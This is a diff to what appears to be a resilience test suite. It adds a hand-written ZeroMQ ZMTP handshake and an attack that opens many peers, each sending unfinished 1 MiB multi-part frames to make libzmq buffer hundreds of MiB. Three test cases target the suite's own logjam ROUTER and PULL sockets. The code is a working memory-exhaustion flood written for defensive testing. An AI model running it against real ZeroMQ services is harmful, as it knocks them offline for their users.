@@ -268,6 +268,68 @@ def eventbus_long_subscriptions(addresses: Addresses, stop: threading.Event) -> 
             _await_close(sock, 30)
 
 
+# --- ZeroMQ: unfinished multi-part messages (issue 26.2) ------------------------------------
+
+
+def zmtp_peer(address: tuple[str, int], socket_type: bytes) -> socket.socket:
+    """A raw ZMTP 3.0 peer after its greeting and READY (NULL mechanism): libzmq's own
+    handshake, written by hand so nothing on this side buffers what is sent."""
+    sock = socket.create_connection(address, timeout=10)
+    greeting = b"\xff" + bytes(8) + b"\x7f" + bytes([3, 0]) + b"NULL".ljust(20, b"\0") + bytes(32)
+    ready = b"\x05READY\x0bSocket-Type" + struct.pack(">I", len(socket_type)) + socket_type
+    _send_quietly(sock, greeting + bytes([0x04, len(ready)]) + ready)
+    return sock
+
+
+def zmq_unfinished_multipart(
+    targets: tuple[tuple[str, bytes], ...], peers: int, frames: int = 40
+) -> Callable[[Addresses, threading.Event], None]:
+    """Issue 26.2: ``peers`` connections (spread over the listeners of ``targets``: name and
+    the peer's socket type), each sending ``frames`` frames of 1 MiB flagged MORE, never the
+    last, then holding the connection for 2 s (libzmq kept every frame: 271 MiB with 5 peers
+    on one socket)."""
+    frame = b"\x03" + struct.pack(">Q", MiB) + b"m" * MiB  # MORE | LONG
+
+    def attack(addresses: Addresses, stop: threading.Event) -> None:
+        socks = []
+        try:
+            for k in range(peers):
+                name, socket_type = targets[k % len(targets)]
+                socks.append(zmtp_peer(addresses[name], socket_type))
+
+            def flood(sock: socket.socket) -> None:
+                for _ in range(frames):
+                    try:
+                        sock.sendall(frame)
+                    except OSError:
+                        return  # disconnected (message_too_large) or not read: done
+
+            senders = [threading.Thread(target=flood, args=(sock,)) for sock in socks]
+            for sender in senders:
+                sender.start()
+            for sender in senders:
+                sender.join()
+            time.sleep(2)
+        finally:
+            for sock in socks:
+                sock.close()
+
+    return attack
+
+
+def logjam_honest(addresses: Addresses, stop: threading.Event) -> int:
+    """A DEALER agent waiting for each 202 (logjam_agent's sync mode)."""
+    from taproom.clients.logjam import LogjamAgent
+
+    host, port = addresses["logjam_router"]
+    acked = 0
+    with LogjamAgent(f"tcp://{host}:{port}", app_env="honest-test", timeout=60) as agent:
+        while not stop.is_set():
+            if agent.send({"honest": acked}) == b"202 Accepted":
+                acked += 1
+    return acked
+
+
 ATTACKS: list[Attack] = [
     Attack(
         "lumberjack nested compression",
@@ -287,6 +349,24 @@ ATTACKS: list[Attack] = [
     Attack("eventbus hashmap flood", "eventbus", eventbus_hashmap_flood, eventbus_honest),
     Attack(
         "eventbus 1 MiB subscriptions", "eventbus", eventbus_long_subscriptions, eventbus_honest
+    ),
+    Attack(
+        "logjam ROUTER, 5 peers x unfinished 40 MiB",
+        "logjam",
+        zmq_unfinished_multipart((("logjam_router", b"DEALER"),), 5),
+        logjam_honest,
+    ),
+    Attack(
+        "logjam PULL, 5 peers x unfinished 40 MiB",
+        "logjam",
+        zmq_unfinished_multipart((("logjam_pull", b"PUSH"),), 5),
+        logjam_honest,
+    ),
+    Attack(
+        "logjam ROUTER + PULL, 10 peers x unfinished 40 MiB",
+        "logjam",
+        zmq_unfinished_multipart((("logjam_router", b"DEALER"), ("logjam_pull", b"PUSH")), 10),
+        logjam_honest,
     ),
 ]
 
